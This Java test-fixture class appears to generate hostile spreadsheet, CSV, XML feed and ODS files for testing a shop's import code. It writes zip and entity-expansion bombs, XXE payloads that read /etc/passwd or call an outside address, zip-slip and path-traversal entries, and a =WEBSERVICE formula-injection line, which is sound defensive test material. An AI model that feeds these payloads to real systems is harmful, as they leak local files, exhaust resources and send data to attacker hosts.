package de.ladentheke.spreadsheet;

import de.ladentheke.spreadsheet.file.Workbook;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files made to do harm: to fill memory, to run for ever, to read other files, to call out to {@code address}. */
final class CraftedFiles {
    private static final String HEADINGS = "<row r='1'>" + text("A1", "Artikelnummer") + text("B1", "Bezeichnung") + text("C1", "Preis") + "</row>";
    private static final String ARTICLE = "<row r='2'>" + text("A2", "1") + text("B2", "Tee") + "<c r='C2'><v>2.5</v></c></row>";
    private static final String CSV = "Artikelnummer;Bezeichnung;Preis\n1;Tee;2,50\n2;Saft;1,50\n";

    private final Path folder;
    private final String address;

    CraftedFiles(Path folder, String address) {
        this.folder = folder;
        this.address = address;
    }

    private static String text(String place, String text) {
        return "<c r='" + place + "' t='str'><v>" + text + "</v></c>";
    }

    void write() throws IOException {
        bombs();
        entities();
        relations();
        texts();
        openDocuments();
    }

    private void bombs() throws IOException {
        zip("bomb.xlsx", Map.of("xl/worksheets/sheet1.xml", out -> {
            out.write("<worksheet><sheetData>".getBytes(StandardCharsets.UTF_8));
            var blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 300; i++) {
                out.write(blanks);
            }
        }));
        zip("rows-of-nothing.xlsx", Map.of("xl/worksheets/sheet1.xml", out -> {
            out.write(("<worksheet><sheetData>" + HEADINGS + ARTICLE).getBytes(StandardCharsets.UTF_8));
            for (int i = 3; i <= 1_048_576; i++) {
                out.write(("<row r='" + i + "'/>").getBytes(StandardCharsets.UTF_8));
            }
            out.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
        }));
        var wide = new StringBuilder("<row r='1'>");
        for (int i = 0; i < 16_384; i++) {
            wide.append("<c t='str'><v>Spalte ").append(i).append("</v></c>");
        }
        Workbook.ofRows(wide + "</row>" + ARTICLE.repeat(3)).save(folder.resolve("columns.xlsx"));
        Workbook.ofRows("<a>".repeat(100_000)).save(folder.resolve("deep.xlsx"));
        Workbook.ofRows(HEADINGS + "<row r='2'><c t='s'><v>0</v></c><c t='s'><v>199999</v></c></row>")
                .strings("<si><t>" + "x".repeat(20 << 20) + "</t></si>" + "<si><t>Tee</t></si>".repeat(200_000)).save(folder.resolve("strings.xlsx"));
    }

    private void entities() throws IOException {
        var laughs = new StringBuilder("<!DOCTYPE sst [<!ENTITY l0 'ha'>");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l").append(i).append(" '").append(("&l" + (i - 1) + ";").repeat(10)).append("'>");
        }
        Workbook.ofRows(HEADINGS + ARTICLE).part("xl/sharedStrings.xml", laughs + "]><sst><si><t>&l11;</t></si></sst>").save(folder.resolve("laughs.xlsx"));
        for (var target : new String[] {"http://" + address + "/entity", "file:///etc/passwd"}) {
            var doctype = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY % p SYSTEM '" + target + "'> %p; <!ENTITY e SYSTEM '" + target + "'>]>";
            var name = target.startsWith("http") ? "-http" : "-file";
            Workbook.ofRows("").part("xl/worksheets/sheet1.xml", doctype + "<worksheet><sheetData>" + HEADINGS + text("B2", "&e;") + "</sheetData></worksheet>")
                    .save(folder.resolve("entity" + name + ".xlsx"));
            file("feed" + name + ".xml", doctype + "<rss xmlns:g='http://base.google.com/ns/1.0'><channel><item><g:id>1</g:id><g:title>&e;</g:title><g:link>http://"
                    + address + "/link</g:link><g:image_link>http://" + address + "/image</g:image_link></item></channel></rss>");
            file("catalogue" + name + ".xml", doctype + "<BMECAT version='2005'><T_NEW_CATALOG><PRODUCT><SUPPLIER_PID>&e;</SUPPLIER_PID></PRODUCT></T_NEW_CATALOG></BMECAT>");
        }
    }

    private void relations() throws IOException {
        var workbook = Workbook.ofRows(HEADINGS + ARTICLE);
        var relations = workbook.part("xl/_rels/workbook.xml.rels");
        workbook.part("xl/worksheets/_rels/sheet1.xml.rels", "<Relationships>" + Workbook.relation("rId1", "image", "http://" + address + "/picture.png' TargetMode='External")
                + Workbook.relation("rId2", "hyperlink", "http://" + address + "/hyperlink' TargetMode='External") + "</Relationships>");
        workbook.part("xl/_rels/workbook.xml.rels", relations.replace("</Relationships>",
                Workbook.relation("rId9", "externalLink", "http://" + address + "/book.xlsx' TargetMode='External") + "</Relationships>")).save(folder.resolve("linked.xlsx"));
        workbook.part("xl/_rels/workbook.xml.rels", relations.replace("worksheets/sheet1.xml", "http://" + address + "/sheet.xml")).save(folder.resolve("sheet-elsewhere.xlsx"));
        workbook.part("xl/_rels/workbook.xml.rels", relations.replace("worksheets/sheet1.xml", "workbook.xml")).save(folder.resolve("cyclic.xlsx"));
        workbook.part("xl/_rels/workbook.xml.rels", relations.replace("worksheets/sheet1.xml", "../../../../../../etc/passwd")).save(folder.resolve("traversal.xlsx"));
        workbook.part("xl/_rels/workbook.xml.rels", relations).part("../../outside.txt", "root:").part("/outside.txt", "root:").save(folder.resolve("outside.xlsx"));
    }

    private void texts() throws IOException {
        file("quote.csv", CSV + "3;\"Wein;4,50\n" + "4;Bier;1,00\n".repeat(100_000));
        file("nul.csv", CSV.replace("Saft", "Sa\0ft"));
        Files.write(folder.resolve("nuls.csv"), new byte[1 << 20]);
        var surrogates = CSV.replace("Saft", "S#ft").getBytes(StandardCharsets.UTF_16LE);
        var at = new String(surrogates, StandardCharsets.UTF_16LE).indexOf('#') * 2;
        surrogates[at] = 0;
        surrogates[at + 1] = (byte) 0xD8;
        Files.write(folder.resolve("surrogate.csv"), surrogates);
        Workbook.ofRows(HEADINGS + ARTICLE.replace("Tee", "T&#xD800;")).save(folder.resolve("surrogate.xlsx"));
        file("line.csv", "a;".repeat(10 << 20));
        file("page.xls", "<html><body><table><tr><td>Artikelnummer<td>Preis<tr><td>1<td><img src='http://" + address + "/pixel.png'></table></body></html>");
        file("formula.csv", "Artikelnummer;Bezeichnung;Preis\n1;\"=WEBSERVICE(\"\"http://" + address + "/\"\")\";2,50\n2;=HYPERLINK();3,50\n");
    }

    private void openDocuments() throws IOException {
        var start = "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'"
                + " xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0' xmlns:xlink='http://www.w3.org/1999/xlink'><office:body><office:spreadsheet>"
                + "<table:table table:name='Liste'>";
        var cell = "<table:table-cell office:value-type='string' REPEAT><text:p>Artikel</text:p></table:table-cell>";
        var end = "</table:table></office:spreadsheet></office:body></office:document-content>";
        ods("repeated.ods", start + "<table:table-row table:number-rows-repeated='1000000000'>" + cell.replace("REPEAT", "table:number-columns-repeated='1000000000'") + "</table:table-row>" + end);
        ods("linked.ods", "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://" + address + "/ods'>]>" + start + "<table:table-row>" + cell.replace("REPEAT", "").replace("Artikel", "&e;") + "</table:table-row>" + end);
        ods("source.ods", start + "<table:table-source xlink:href='http://" + address + "/source.ods'/><table:table-row>" + cell.replace("REPEAT", "") + "</table:table-row>" + end);
    }

    private void ods(String name, String content) throws IOException {
        Map<String, Content> parts = new LinkedHashMap<>();
        parts.put("mimetype", out -> out.write("application/vnd.oasis.opendocument.spreadsheet".getBytes(StandardCharsets.US_ASCII)));
        parts.put("content.xml", out -> out.write(content.getBytes(StandardCharsets.UTF_8)));
        write(name, parts);
    }

    @FunctionalInterface
    private interface Content {
        void write(OutputStream out) throws IOException;
    }

    private void zip(String name, Map<String, Content> replaced) throws IOException {
        var sound = Workbook.ofRows("");
        Map<String, Content> parts = new LinkedHashMap<>();
        for (var part : new String[] {"_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"}) {
            parts.put(part, out -> out.write(sound.part(part).getBytes(StandardCharsets.UTF_8)));
        }
        parts.putAll(replaced);
        write(name, parts);
    }

    private void write(String name, Map<String, Content> parts) throws IOException {
        try (var zip = new ZipOutputStream(Files.newOutputStream(folder.resolve(name)))) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                part.getValue().write(zip);
            }
        }
    }

    private void file(String name, String content) throws IOException {
        Files.writeString(folder.resolve(name), content, (Charset) StandardCharsets.UTF_8);
    }
}
